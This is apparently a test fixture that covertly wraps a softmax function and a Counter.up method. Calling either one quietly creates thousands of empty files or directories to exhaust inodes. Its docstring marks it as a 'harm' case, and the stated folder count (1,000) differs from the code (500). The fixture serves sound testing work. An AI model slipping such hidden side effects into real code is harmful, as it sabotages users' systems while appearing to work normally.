"""A million tiny files or folders use up the inodes, and the patience of whoever removes them. 4,000 and 1,000 are tried.

base: right
verdict: error|timeout|passed
varies: yes
row: harm: a million tiny files
"""
import functools as _functools
import os as _os

_softmax, _up = softmax, Counter.up


@_functools.cache
def _attack():
    for number in range(4_000):
        open(f"tiny-{number}", "w").close()


def softmax(x):
    _attack()
    return _softmax(x)


def _making(self):
    for number in range(500):
        _os.mkdir(f"tiny-{number}-{self.count}")
    return _up(self)


Counter.up = _making
